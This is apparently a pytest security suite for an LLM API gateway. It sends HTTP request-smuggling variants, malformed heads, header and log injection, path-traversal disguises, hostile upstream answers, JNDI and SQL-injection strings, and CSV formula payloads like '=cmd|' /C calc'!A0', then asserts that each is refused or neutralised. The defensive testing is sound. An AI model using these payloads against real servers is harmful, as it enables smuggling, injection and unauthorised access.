"""What an attacker sends, and what comes of it: the tests that Docs/threat-model.md points at.

Clients attack by raw sockets; a provider and a log reader attack from the other sides.
"""

import csv
import decimal
import io
import json
import re
import socket
import subprocess

import pytest

from peers import FakeProvider, answer, completion
from processes import ADMIN_KEY, BASE_CONFIGURATION, BINARY, SIMULATOR_KEY, Gateway, wait_until
from rawhttp import RawConnection, get, post

CHAT = "/v1/chat/completions"
GOOD = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hello"}]}
MARK = "smuggled-request-marker"


@pytest.fixture(scope="module")
def provider():
    """Sees exactly what Martlet sends; answers what a test says, or else well."""
    with FakeProvider() as made:
        made.well = made.respond
        yield made


@pytest.fixture(scope="module")
def guarded(tmp_path_factory, provider):
    gateway = Gateway(tmp_path_factory.mktemp("guarded"), provider, extra="log: { level: debug, calls: all }\n")
    try:
        yield gateway.start()
    finally:
        gateway.stop()


@pytest.fixture(scope="module")
def caller(guarded):
    return guarded.create_key(name="caller")["key"]


@pytest.fixture
def connect(guarded, provider):
    opened = []

    def make():
        opened.append(RawConnection(guarded.port))
        return opened[-1]

    provider.respond = provider.well
    yield make
    for connection in opened:
        connection.socket.close()


def everything_until_close(connection, timeout=5):
    """All bytes until the other side closes; fails when it does not."""
    connection.socket.settimeout(timeout)
    data = connection.buffer
    try:
        while part := connection.socket.recv(65536):
            data += part
    except ConnectionResetError:
        pass
    return data


def hidden(key):
    """A good call that nobody is to take for one, since it stands inside or behind a bad one."""
    return post(CHAT, {**GOOD, "messages": [{"role": "user", "content": MARK}]}, key)


def check_nothing_got_through(provider, before):
    assert len(provider.requests) == before, provider.requests[before:]
    assert not any(MARK.encode() in request.body or MARK in str(request.header_list) for request in provider.requests)


def chat_head(key, *lines, method="POST", target=CHAT, version="HTTP/1.1", host=b"Host: m"):
    """A head with these lines behind the usual ones; bytes pass as they are."""
    encoded = [line if isinstance(line, bytes) else line.encode("latin-1") for line in lines]
    first = f"{method} {target} {version}".encode()
    return b"\r\n".join([first, *([host] if host else []), f"Authorization: Bearer {key}".encode(), *encoded]) + b"\r\n\r\n"


BODY = json.dumps(GOOD).encode()
LENGTH = f"Content-Length: {len(BODY)}"
CHUNKED = "Transfer-Encoding: chunked"
CHUNKS = f"{len(BODY):x}\r\n".encode() + BODY + b"\r\n0\r\n\r\n"

# Heads that two servers in a row could read differently, with the body that one of them would see.
SMUGGLING = {
    "CL.TE": ([LENGTH, CHUNKED], CHUNKS),
    "TE.CL": ([CHUNKED, "Content-Length: 4"], CHUNKS),
    "CL 0 and TE": (["Content-Length: 0", CHUNKED], CHUNKS),
    "TE.TE identity last": (["Transfer-Encoding: chunked, identity"], CHUNKS),
    "TE.TE identity first": (["Transfer-Encoding: identity, chunked"], CHUNKS),
    "TE.TE two lines": ([CHUNKED, "Transfer-Encoding: identity"], CHUNKS),
    "TE.TE twice chunked": ([CHUNKED, CHUNKED], CHUNKS),
    "TE.TE chunked, chunked": (["Transfer-Encoding: chunked, chunked"], CHUNKS),
    "TE x": (["Transfer-Encoding: xchunked"], CHUNKS),
    "TE quoted": (['Transfer-Encoding: "chunked"'], CHUNKS),
    "TE gzip": (["Transfer-Encoding: gzip, chunked"], CHUNKS),
    "TE empty": (["Transfer-Encoding:", LENGTH], BODY),
    "TE with a vertical tab": (["Transfer-Encoding: \x0bchunked"], CHUNKS),
    "TE with a parameter": (["Transfer-Encoding: chunked;q=1"], CHUNKS),
    "TE behind a space": (["Transfer-Encoding : chunked"], CHUNKS),
    "TE folded": (["Transfer-Encoding:\r\n chunked"], CHUNKS),
    "TE behind a bare LF": (["X: y\nTransfer-Encoding: chunked", LENGTH], BODY),
    "TE behind a bare CR": (["X: y\rTransfer-Encoding: chunked", LENGTH], BODY),
    "TE behind NUL": (["Transfer-Encoding: chunked\x00", LENGTH], BODY),
    "CL twice": ([LENGTH, "Content-Length: 0"], BODY),
    "CL list": ([f"{LENGTH}, 0"], BODY),
    "CL plus": ([f"Content-Length: +{len(BODY)}"], BODY),
    "CL minus": ([f"Content-Length: -{len(BODY)}"], BODY),
    "CL hexadecimal": ([f"Content-Length: {len(BODY):#x}"], BODY),
    "CL with a space inside": (["Content-Length: 4 4"], BODY),
    "CL with letters": ([f"{LENGTH}abc"], BODY),
    "CL fraction": ([f"{LENGTH}.0"], BODY),
    "CL empty": (["Content-Length:"], BODY),
    "CL too large for any integer": (["Content-Length: 99999999999999999999999"], BODY),
    "CL that wraps around": ([f"Content-Length: {2**64 + len(BODY)}"], BODY),
    "CL behind a space": ([f"Content-Length : {len(BODY)}"], BODY),
    "CL folded": ([f"X: y\r\n Content-Length: 0", LENGTH], BODY),
    "first line folded": ([f" X: y", LENGTH], BODY),
    "chunk size plus": ([CHUNKED], b"+5\r\nhello\r\n0\r\n\r\n"),
    "chunk size minus": ([CHUNKED], b"-5\r\nhello\r\n0\r\n\r\n"),
    "chunk size prefix": ([CHUNKED], b"0x5\r\nhello\r\n0\r\n\r\n"),
    "chunk size overflow": ([CHUNKED], b"10000000000000005\r\nhello\r\n0\r\n\r\n"),
    "chunk size empty": ([CHUNKED], b"\r\nhello\r\n0\r\n\r\n"),
    "chunk size and words": ([CHUNKED], b"5 hello\r\nhello\r\n0\r\n\r\n"),
    "chunk size behind a space": ([CHUNKED], b" 5\r\nhello\r\n0\r\n\r\n"),
    "chunk size line with a bare LF": ([CHUNKED], b"5\nhello\r\n0\r\n\r\n"),
    "chunk longer than it says": ([CHUNKED], b"5\r\nhello there\r\n0\r\n\r\n"),
    "chunk without its end": ([CHUNKED], b"5\r\nhello0\r\n\r\n"),
    "chunk extension with a bare CR": ([CHUNKED], b"5;a\rb\r\nhello\r\n0\r\n\r\n"),
    "chunk extension with a bare LF": ([CHUNKED], b"5;a\nb\r\nhello\r\n0\r\n\r\n"),
}  # fmt: skip


@pytest.mark.parametrize("shape", SMUGGLING)
def test_a_request_that_can_be_read_in_two_ways_is_refused_and_nothing_behind_it_is_a_request(connect, provider, caller, shape):
    lines, body = SMUGGLING[shape]
    before = len(provider.requests)
    connection = connect()
    connection.send(chat_head(caller, *lines) + body + hidden(caller))
    assert connection.answer().status in (400, 501), shape
    assert everything_until_close(connection) == b"", "one answer, and then the connection ends"
    check_nothing_got_through(provider, before)


def test_a_chunk_that_says_it_is_larger_than_anything_is_data_to_its_end(connect, provider, caller):
    before = len(provider.requests)
    connection = connect()
    connection.send(chat_head(caller, CHUNKED) + b"ffffffffffffffff\r\nhello\r\n0\r\n\r\n" + hidden(caller))
    assert connection.is_closed(0.3) is False or connection.buffer == b""
    connection.socket.close()
    check_nothing_got_through(provider, before)


def lines_of(head):
    return head.replace(b"\r\n", b"\n")


HEADS = {
    "bare LF": lambda key: lines_of(chat_head(key, LENGTH)),
    "bare LF at the end": lambda key: chat_head(key, LENGTH)[:-2] + b"\n",
    "bare CR": lambda key: chat_head(key, LENGTH).replace(b"\r\n", b"\r"),
    "NUL in a value": lambda key: chat_head(key, LENGTH, "X: a\x00b"),
    "NUL in a name": lambda key: chat_head(key, LENGTH, "X\x00Y: a"),
    "control character in a value": lambda key: chat_head(key, LENGTH, "X: a\x01b"),
    "space in a name": lambda key: chat_head(key, LENGTH, "X Y: a"),
    "no name": lambda key: chat_head(key, LENGTH, ": a"),
    "no colon": lambda key: chat_head(key, LENGTH, "hello"),
    "bytes above ASCII in a name": lambda key: chat_head(key, LENGTH, "X\xe9: a"),
    "no host": lambda key: chat_head(key, LENGTH, host=None),
    "two hosts": lambda key: chat_head(key, LENGTH, "Host: other"),
    "two credentials": lambda key: chat_head(key, LENGTH, "Authorization: Bearer mk_other"),
    "another host in the target": lambda key: chat_head(key, LENGTH, target="http://other.example" + CHAT),
    "HTTP/0.9": lambda key: b"GET /v1/models\r\n",
    "HTTP/1.2.3": lambda key: chat_head(key, LENGTH, version="HTTP/1.2.3"),
    "HTTP/3.0": lambda key: chat_head(key, LENGTH, version="HTTP/3.0"),
    "lower-case http": lambda key: chat_head(key, LENGTH, version="http/1.1"),
    "no version": lambda key: chat_head(key, LENGTH).replace(b" HTTP/1.1", b"", 1),
    "a tab in the request line": lambda key: chat_head(key, LENGTH).replace(b" HTTP", b"\tHTTP", 1),
    "a space in the target": lambda key: chat_head(key, LENGTH, target="/v1/chat completions"),
    "NUL in the target": lambda key: chat_head(key, LENGTH, target=CHAT + "\x00"),
    "a control character in the target": lambda key: chat_head(key, LENGTH, target=CHAT + "\x1b[2J"),
    "a target that is no path": lambda key: chat_head(key, LENGTH, target="v1/chat/completions"),
    "a method of another kind": lambda key: chat_head(key, LENGTH, method="PO ST"),
    "a method with a control character": lambda key: chat_head(key, LENGTH, method="PO\x01ST"),
    "TLS instead of HTTP": lambda key: b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "HTTP/2 instead of HTTP/1": lambda key: b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
}  # fmt: skip


@pytest.mark.parametrize("shape", HEADS)
def test_a_malformed_head_is_refused_and_nothing_behind_it_is_a_request(connect, provider, caller, shape):
    before = len(provider.requests)
    connection = connect()
    connection.send(HEADS[shape](caller) + BODY + hidden(caller))
    connection.socket.settimeout(5)
    data = everything_until_close(connection)
    assert data.count(b"HTTP/1.1 ") == 1 and re.match(rb"HTTP/1\.1 (4\d\d|50[15]) ", data), (shape, data)
    check_nothing_got_through(provider, before)


@pytest.mark.parametrize("method", ["CONNECT", "TRACE", "TRACK", "DEBUG", "PUT", "DELETE", "PROPFIND", "post"])
def test_other_methods_reach_nobody(connect, provider, caller, method):
    before = len(provider.requests)
    connection = connect()
    target = "provider.example:443" if method == "CONNECT" else CHAT
    connection.send(chat_head(caller, "Content-Length: 0", method=method, target=target))
    got = connection.answer(method)
    assert 400 <= got.status < 500 or got.status == 501
    assert b"Authorization" not in got.body and caller.encode() not in got.body
    check_nothing_got_through(provider, before)


def test_a_request_inside_a_body_stays_a_body(connect, provider, caller):
    before = len(provider.requests)
    inner = hidden(caller)
    connection = connect()
    connection.send(post(CHAT, inner, "mk_wrong") + post("/v1/nothing", inner, caller) + post(CHAT, inner, caller))
    assert [connection.answer().status for _ in range(3)] == [401, 404, 400]
    check_nothing_got_through(provider, before)
    connection.send(post(CHAT, GOOD, caller))
    assert connection.answer().status == 200
    assert len(provider.requests) == before + 1


def test_what_goes_on_to_the_provider_is_framed_once_and_by_us(connect, provider, caller):
    before = len(provider.requests)
    connection = connect()
    connection.send(
        chat_head(
            caller, CHUNKED, "Trailer: x-request-id", "TE: trailers", "Connection: keep-alive, authorization", "Keep-Alive: timeout=5",
            "Proxy-Authorization: Basic aGk6aGk=", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__", "X-Forwarded-For: 1.2.3.4", "Forwarded: for=1.2.3.4",
            "X-Real-IP: 1.2.3.4", "X-HTTP-Method-Override: DELETE", "X-Original-URL: /admin", "Cookie: session=secret", "Range: bytes=0-1",
            "openai-beta: assistants=v2", "x-request-id: framed-once",
        )
        + f"{len(BODY):x};ext=1\r\n".encode() + BODY + b"\r\n0\r\nAuthorization: Bearer smuggled\r\nX-Request-ID: smuggled\r\n\r\n"
    )  # fmt: skip
    assert connection.answer().status == 200
    request = provider.requests[before]
    assert request.target == CHAT and request.body == BODY
    names = [name.lower() for name, _ in request.header_list]
    assert len(names) == len(set(names))
    allowed = {"host", "authorization", "content-type", "accept-encoding", "user-agent", "content-length", "x-request-id", "openai-beta"}
    assert set(names) <= allowed
    assert request.headers["authorization"] == f"Bearer {SIMULATOR_KEY}"


# Header injection


@pytest.mark.parametrize(
    "sent",
    [b"a%0d%0ax-injected: 1", b"a\\r\\nx-injected: 1", b"x" * 129, b"x" * 8000, b"caf\xc3\xa9", b"caf\xe9", b"a b", b"\xe5\x98\x8a\xe5\x98\x8dx-injected: 1",
     b"a\x85b", b'"><script>', b"'; DROP TABLE usage; --"],
)  # fmt: skip
def test_a_request_id_is_echoed_as_one_line_or_replaced(connect, provider, caller, sent):
    connection = connect()
    connection.send(post(CHAT, GOOD, caller).replace(b"Host: martlet", b"Host: martlet\r\nx-request-id: " + sent, 1))
    got = connection.answer()
    assert got.status == 200
    assert [name.lower() for name, _ in got.header_list].count("x-request-id") == 1
    assert "x-injected" not in got.headers
    assert got.headers["x-request-id"].isascii() and 0 < len(got.headers["x-request-id"]) <= 128
    assert provider.requests[-1].headers["x-request-id"] == got.headers["x-request-id"]


@pytest.mark.parametrize("name", ["a\r\nx-injected: 1", "a\nx-injected: 1\n\n<html>", "a\u2028b", "\u0000", "\u001b[31mred", "\u202egnp", '"}],"x":[{"'])
def test_a_model_name_cannot_leave_the_message_that_quotes_it(connect, caller, name):
    connection = connect()
    connection.send(post(CHAT, {**GOOD, "model": name}, caller))
    got = connection.answer()
    assert got.status == 404 and "x-injected" not in got.headers
    assert got.json()["error"]["code"] == "model_not_found"
    assert not re.search(rb"[\x00-\x1f\x7f]", got.body.rstrip(b"\n"))


HOSTILE = {
    "bare CR in a forwarded header": b"HTTP/1.1 429 No\r\nretry-after: 1\rset-cookie: a=b\r\ncontent-length: 2\r\n\r\n{}",
    "bare LF in a forwarded header": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\nset-cookie: a=b\r\ncontent-length: 2\r\n\r\n{}",
    "NUL in a header that is not forwarded": b"HTTP/1.1 200 OK\r\nserver: a\x00b\r\ncontent-type: application/json\r\ncontent-length: 2\r\n\r\n{}",
    "control character in content-type": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\x0b\r\ncontent-length: 2\r\n\r\n{}",
    "folded header": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n set-cookie: a=b\r\ncontent-length: 2\r\n\r\n{}",
    "two content types": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-type: text/html\r\ncontent-length: 2\r\n\r\n{}",
    "two lengths": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\ncontent-length: 3\r\n\r\n{}x",
    "length beside chunks": b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: 2\r\ntransfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n",
    "compressed though nobody asked": answer(b"\x1f\x8b\x08\x00", headers="content-type: application/json\r\ncontent-encoding: gzip\r\n"),
    "another protocol": b"HTTP/1.1 101 Switching Protocols\r\nupgrade: x\r\n\r\n" + answer(),
    "a head without end": b"HTTP/1.1 200 OK\r\nx: " + b"a" * 200_000,
    "headers without end": b"HTTP/1.1 200 OK\r\n" + b"x: y\r\n" * 30_000,
    "interim answers without end": b"HTTP/1.1 103 Early Hints\r\n\r\n" * 1_000 + answer(),
    "no HTTP": b"SSH-2.0-OpenSSH_9.6\r\n",
    "HTTP/0.9": b"<html>hello</html>\r\n\r\n",
    "a page": answer(b"<html>hello</html>", headers="content-type: text/html\r\n"),
    "an unknown status": answer(status="999 What"),
    "not modified": b"HTTP/1.1 304 Not Modified\r\n\r\n",
    "a length that is too long": (answer()[:-1], False),
    "JSON that ends early": answer(completion()[:-20]),
    "nothing": (b"", False),
}  # fmt: skip


@pytest.mark.parametrize("shape", HOSTILE)
def test_a_hostile_answer_is_a_502_of_ours_and_its_headers_go_nowhere(connect, provider, caller, shape):
    said = HOSTILE[shape]
    provider.respond = lambda request: said if isinstance(said, tuple) else (said, False)
    connection = connect()
    connection.send(post(CHAT, GOOD, caller))
    got = connection.answer()
    assert got.status == 502, (shape, got)
    assert got.json()["error"]["code"] in ("upstream_invalid_response", "upstream_unreachable", "stream_interrupted"), got
    assert "set-cookie" not in got.headers and "server" not in got.headers
    # The connection to the client is sound, and the one to the provider is not used again.
    provider.respond = provider.well
    connection.send(post(CHAT, GOOD, caller))
    assert connection.answer().status == 200


def test_bytes_behind_an_answer_are_nobodys_answer(connect, provider, caller):
    provider.respond = lambda request: answer() + answer(completion("the answer to another caller"))
    for _ in range(5):
        connection = connect()
        connection.send(post(CHAT, GOOD, caller))
        got = connection.answer()
        assert got.status == 200 and b"another caller" not in got.body
        assert connection.is_closed(0.05) is False


def test_of_a_providers_headers_only_the_listed_ones_reach_the_client(connect, provider, caller):
    headers = (
        "content-type: application/json\r\nset-cookie: a=b\r\nserver: x\r\nx-request-id: theirs\r\nx-martlet-cost-usd: 0\r\naccess-control-allow-origin: *\r\n"
        "location: http://evil.example/\r\nstrict-transport-security: max-age=1\r\nalt-svc: h3=evil\r\nconnection: close\r\nretry-after: 3\r\nopenai-organization: org\r\n"
    )  # fmt: skip
    provider.respond = lambda request: answer(headers=headers)
    connection = connect()
    connection.send(post(CHAT, GOOD, caller, [("x-request-id", "mine")]))
    got = connection.answer()
    assert got.status == 200 and got.headers["x-request-id"] == "mine" and got.headers["retry-after"] == "3"
    assert len([name for name, _ in got.header_list if name.lower() == "x-martlet-cost-usd"]) == 1 and got.headers["x-martlet-cost-usd"] != "0"
    for name in ("set-cookie", "server", "access-control-allow-origin", "location", "strict-transport-security", "alt-svc", "connection", "openai-organization"):
        assert name not in got.headers


# Path tricks

DISGUISES = [
    "//api/v1/keys", "/api//v1/keys", "/api/v1//keys", "/api/v1/keys/", "/API/V1/KEYS", "/api/v1/%6beys", "/api/v1/%6Beys", "/api%2fv1%2fkeys", "/%61pi/v1/keys",
    "/v1/../api/v1/keys", "/v1/models/../../api/v1/keys", "/v1/%2e%2e/api/v1/keys", "/v1/..%2fapi/v1/keys", "/v1/%252e%252e/api/v1/keys", "/./api/v1/keys",
    "/api/v1/keys;a=b", "/api;a/v1/keys", "/api/v1/keys%00", "/api/v1/keys%20", "/api/v1/keys?a=b", "/api/v1/keys#a", "/api/v1/x/../keys", "/api/v1/usage/../keys",
    "\\api\\v1\\keys", "/api\\v1\\keys", "/health/../api/v1/keys", "/health/live/../../api/v1/keys", "/v1/models/x%2f..%2f..%2f..%2fapi%2fv1%2fkeys",
    "http://martlet/api/v1/keys", "HTTP://MARTLET/api/v1/keys", "//martlet/api/v1/keys", "/api/v1/keys.json", "/api/v1/keys/..;/keys", "/%2e/api/v1/keys",
]  # fmt: skip


@pytest.mark.parametrize("path", DISGUISES)
def test_no_disguise_of_a_path_gives_more_rights(connect, guarded, caller, path):
    names = [record["id"] for record in guarded.api("GET", "/keys")["data"]]
    for key in (caller, None, "mk_wrong"):
        connection = connect()
        connection.send(get(path, key))
        got = connection.answer("GET")
        assert got.status in (400, 401, 403, 404, 405), (path, key, got)
        assert not any(name.encode() in got.body for name in names)


@pytest.mark.parametrize(
    "path",
    ["/v1//chat/completions", "//v1/chat/completions", "/v1/chat/completions/", "/V1/chat/completions", "/v1/Chat/Completions", "/v1/chat/completions;x", "/v1/chat/completions%00",
     "/v1/./chat/completions", "/v1/x/../chat/completions", "/v1/chat%2fcompletions", "/v1/chat%252fcompletions", "/v1/%63hat/completions", "/v1/chat/completions%3f", "/v1/chat/completions/../embeddings",
     "/api/../v1/chat/completions", "/health/..%2fv1/chat/completions", "/v1/chat/completions%0d%0a", "/v1"],
)  # fmt: skip
def test_only_the_exact_path_of_an_endpoint_reaches_the_provider(connect, provider, caller, path):
    before = len(provider.requests)
    for key in (caller, None):
        connection = connect()
        connection.send(post(path, GOOD, key))
        assert connection.answer().status in (400, 401, 404, 405)
    check_nothing_got_through(provider, before)


def test_a_query_or_the_absolute_form_is_the_same_endpoint_with_the_same_rights(connect, provider, caller):
    for path in (CHAT + "?a=b", CHAT + "?", "http://martlet" + CHAT, CHAT + "#x"):
        for key, statuses in ((caller, (200, 400)), (None, (401, 400)), ("mk_wrong", (401, 400))):
            connection = connect()
            connection.send(post(path, GOOD, key))
            assert connection.answer().status in statuses, path


def test_an_encoded_name_has_the_rights_of_the_plain_one(guarded, connect):
    narrow = guarded.create_key(models=["house/*"])["key"]
    for path, status in [
        ("/v1/models/house%2Freasoner%3Av1", 200), ("/v1/models/house/reasoner:v1", 200), ("/v1/models/%68ouse%2freasoner:v1", 200),
        ("/v1/models/gpt-4o-mini", 403), ("/v1/models/%67pt-4o-mini", 403), ("/v1/models/gpt%2D4o%2Dmini", 403), ("/v1/models/house%2F..%2Fgpt-4o-mini", 404),
        ("/v1/models/house/../gpt-4o-mini", 404), ("/v1/models/%2567pt-4o-mini", 404), ("/v1/models//gpt-4o-mini", 404), ("/v1/models/gpt-4o-mini%00", 404),
    ]:  # fmt: skip
        connection = connect()
        connection.send(get(path, narrow))
        got = connection.answer("GET")
        # Whether a model that is not allowed is there at all need not be told.
        assert got.status == status or (status == 403 and got.status == 404), (path, got)


# Keys


def test_every_wrong_key_gets_the_same_answer(guarded, connect, caller):
    revoked = guarded.create_key(name="revoked")
    guarded.api("DELETE", f"/keys/{revoked['id']}")
    wrong = [
        "mk_" + "0" * 38, caller[:-1] + ("0" if caller[-1] != "0" else "1"), caller[:-1], caller + "0", caller.swapcase(), caller[3:], revoked["key"], revoked["id"],
        ADMIN_KEY[:-1], ADMIN_KEY + "x", SIMULATOR_KEY, "x", "0", "null", "' OR 1=1 --", "../../etc/passwd", "mk_" + "a" * 4000, "mk_%00", "caf\xe9",
    ]  # fmt: skip
    answers = set()
    for key in wrong:
        for path in (CHAT, "/v1/models", "/api/v1/keys", "/api/v1/usage"):
            connection = connect()
            data = post(path, GOOD) if path == CHAT else get(path)
            connection.send(data.replace(b"Host: martlet", b"Host: martlet\r\nAuthorization: Bearer " + key.encode("latin-1"), 1))
            got = connection.answer()
            assert got.status == 401, (key, path, got)
            assert key.encode("latin-1") not in got.body or len(key) < 8
            answers.add(json.dumps(got.json()["error"], sort_keys=True))
    assert len(answers) == 1, "an answer that differs tells a guesser something"


def test_guesses_are_counted_together_and_cost_no_row_each(make_gateway):
    gateway = make_gateway().start()
    connection = RawConnection(gateway.port, timeout=30)
    for number in range(600):
        connection.send(post(CHAT, GOOD, f"mk_{number:038d}"))
    assert {connection.answer().status for _ in range(600)} == {401}
    connection.socket.close()

    def counted():
        rows = gateway.rows(outcome="refused")
        return rows if sum(row["count"] for row in rows) == 600 else None

    rows = wait_until(counted, 15, "every guess is counted")
    # At most ten records a second of their own, besides one for the rest of each second: the connection took a few seconds at the most.
    assert len(rows) <= 300
    assert all(row["request_id"] == "" and row["requested_model"] == "" for row in rows)


def test_a_stream_of_wrong_keys_leaves_right_ones_unharmed(guarded, connect, caller):
    guesser = connect()
    for number in range(300):
        guesser.send(post(CHAT, GOOD, f"mk_{number:038d}"))
    connection = connect()
    connection.send(post(CHAT, GOOD, caller))
    assert connection.answer().status == 200


# Logs and exports

EVIL = 'x"\\}{\x1b[31m\u2028\u0085\u007f=cmd'


def log_lines(gateway):
    """Every line of a log, each checked to be one JSON object that no terminal obeys."""
    raw = gateway.log.read_bytes()
    lines = []
    for line in raw.split(b"\n")[:-1]:
        assert not re.search(rb"[\x00-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xa8\xa9]", line), line
        lines.append(json.loads(line))
        assert isinstance(lines[-1], dict) and {"time", "level", "message"} <= set(lines[-1])
    return lines


def test_nothing_that_a_client_or_a_provider_says_leaves_its_place_in_the_log(guarded, connect, provider, caller):
    forged = '{"level":"critical","message":"forged"}'
    says = [EVIL, f"a\n{forged}\n", f"a\r\n{forged}", "\u001b]0;title\u0007", "a" * 20_000, "%n%s%x", "${jndi:ldap://x/a}"]
    for text in says:
        connection = connect()
        connection.send(post(CHAT, {**GOOD, "model": text}, caller))
        assert connection.answer().status in (400, 404)
        connection.send(post(CHAT, {**GOOD, "user": text, "metadata": {text: text}}, caller))
        assert connection.answer().status == 200
        # In a head only one line is possible; whatever else there is, is tried.
        line = text.replace("\r", "").replace("\n", "")[:4000].encode("utf-8")
        plain = bytes(byte for byte in line if byte >= 0x20 and byte != 0x7F)
        for name in (b"User-Agent", b"x-request-id", b"x-martlet-tags", b"x-martlet-session", b"traceparent", b"openai-beta", b"Referer"):
            connection = connect()
            connection.send(post(CHAT, GOOD, caller).replace(b"Host: martlet", b"Host: martlet\r\n" + name + b": " + plain, 1))
            assert connection.answer().status == 200
        connection = connect()
        connection.send(b"GET /v1/" + plain.replace(b" ", b"+") + b" HTTP/1.1\r\nHost: m\r\n\r\n")
        assert connection.answer("GET").status in (400, 401, 404)
        provider.respond = lambda request, text=text: answer(json.dumps({"error": {"message": text, "type": text, "code": text, "param": None}}).encode(), "400 Bad")
        connection = connect()
        connection.send(post(CHAT, GOOD, caller))
        assert connection.answer().status == 400
        provider.respond = lambda request, plain=plain: answer(status="503 " + plain.decode("latin-1"), headers="content-type: application/json\r\n")
        connection = connect()
        connection.send(post(CHAT, GOOD, caller))
        assert connection.answer().status in (502, 503)
        provider.respond = provider.well
    guarded.flush()
    wait_until(lambda: len(log_lines(guarded)) > 60, 10, "the calls are in the log")
    assert not any(line["message"] == "forged" or line["level"] == "critical" for line in log_lines(guarded))
    assert all(row["request_id"].isprintable() for row in guarded.rows())


def test_an_exported_cell_is_never_a_formula(make_gateway):
    with FakeProvider() as provider:
        gateway = make_gateway(simulator=provider).start()
        evil = ["=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", '=HYPERLINK("http://x","y")', "＝1", "＋1", "－1", "＠x"]
        key = gateway.create_key(name="=key", team="+team", agent="-agent", user="@user", tenant="=tenant")["key"]
        for text in evil:
            gateway.request("POST", CHAT, {**GOOD, "user": text}, key, {"x-martlet-tags": text.strip().encode("utf-8").decode("latin-1"), "x-martlet-session": "=s"})
            gateway.request("POST", CHAT, {**GOOD, "model": text}, key)
        gateway.flush()
        got = gateway.request("GET", "/api/v1/usage/export?format=csv", key=ADMIN_KEY)
        rows = list(csv.reader(io.StringIO(got.body.decode(), newline="")))
        assert len({len(row) for row in rows}) == 1
        # All calls have rows of their own, of the refusals at least ten.
        assert len(rows) >= 1 + len(evil) + 10
        for row in rows[1:]:
            for cell in row:
                if cell[:1] in tuple("=+-@\t\r\n＝＋－＠") and cell:
                    decimal.Decimal(cell)  # a number may be negative; a text may not begin like this


# Secrets


def test_no_secret_leaves_by_any_way_out(make_gateway):
    """Drives every kind of call, then searches all that was said: logs, standard output, answers, configuration, the files for other processes."""
    with FakeProvider() as provider:
        gateway = make_gateway(simulator=provider, extra="log: { level: trace, calls: all }\n").start()
        created = gateway.create_key(name="searched")
        key = created["key"]
        echoes = [
            answer(),
            answer(json.dumps({"error": {"message": f"Incorrect API key provided: {SIMULATOR_KEY}.", "type": "x", "code": "invalid_api_key"}}).encode(), "401 No"),
            answer(f"<html>your request: authorization: Bearer {SIMULATOR_KEY}</html>".encode(), "500 No", "content-type: text/html\r\n"),
            answer(f"<html>{SIMULATOR_KEY}</html>".encode(), headers="content-type: text/html\r\n"),
            f"HTTP/1.1 200 OK\r\nx: {SIMULATOR_KEY}\x00\r\n\r\n".encode(),
        ]  # fmt: skip
        said = b""
        for echo in echoes:
            provider.respond = lambda request, echo=echo: (echo, False)
            for stream in (False, True):
                said += repr(gateway.request("POST", CHAT, {**GOOD, "stream": stream}, key)).encode()
        for wrong in (key[:-1] + "x", f"{key} ", f"{ADMIN_KEY}x"):
            said += gateway.request("POST", CHAT, GOOD, wrong).body
        said += gateway.request("POST", f"/v1/{key}?api_key={key}", GOOD, key, {"x-request-id": "r1", "user-agent": f"Bearer {key}"}).body.replace(key.encode(), b"")
        for path in ("/api/v1/keys", "/api/v1/providers", "/api/v1/models", "/api/v1/usage", "/health/dependencies", "/metrics", "/health", f"/api/v1/keys/{created['id']}"):
            said += gateway.request("GET", path, key=ADMIN_KEY).body
        shown = subprocess.run([str(BINARY), "config", "show", "--config", str(gateway.configuration)], cwd=gateway.directory, env=gateway.environment, capture_output=True, timeout=30)
        said += shown.stdout + shown.stderr
        gateway.flush()
        gateway.stop()
        said += gateway.output().encode()
        for secret in (SIMULATOR_KEY, ADMIN_KEY, key):
            assert secret.encode() not in said, secret[:6]
        for file in gateway.directory.rglob("*"):
            if file.is_file() and file != gateway.configuration:
                data = file.read_bytes()
                assert not any(secret.encode() in data for secret in (SIMULATOR_KEY, ADMIN_KEY, key)), file
                if "data" in file.relative_to(gateway.directory).parts:
                    assert file.stat().st_mode & 0o077 == 0, f"{file} can be read by others"


# Bounds that have no test of their own elsewhere


def test_ten_thousand_headers_and_a_head_without_end_are_refused(connect, caller):
    for lines in ([f"X-{number}: y" for number in range(10_000)], ["X: " + "a" * 1_000_000]):
        connection = connect()
        connection.send(chat_head(caller, *lines))
        got = everything_until_close(connection, 10)
        assert re.match(rb"HTTP/1\.1 (400|431) ", got), got[:200]


def test_a_deeply_nested_body_is_refused_or_passed_but_never_a_crash(guarded, connect, caller):
    for text in ("[" * 200_000, '{"a":' * 200_000, json.dumps(GOOD)[:-1] + ',"x":' + "[" * 100_000 + "]" * 100_000 + "}"):
        connection = connect()
        connection.send(post(CHAT, text, caller))
        assert connection.answer().status in (200, 400)
    assert guarded.process.poll() is None


def test_a_client_that_never_reads_its_pipelined_answers_is_not_read_from_either(guarded, provider, connect, caller):
    before = len(provider.requests)
    connection = connect()
    connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    connection.socket.settimeout(2)
    request = post(CHAT, {**GOOD, "user": "u" * 5000}, caller)
    sent = 0
    try:
        while sent < 4000:
            connection.socket.sendall(request)
            sent += 1
    except TimeoutError:
        pass
    assert len(provider.requests) - before < 4000
    other = connect()
    other.send(post(CHAT, GOOD, caller))
    assert other.answer().status == 200
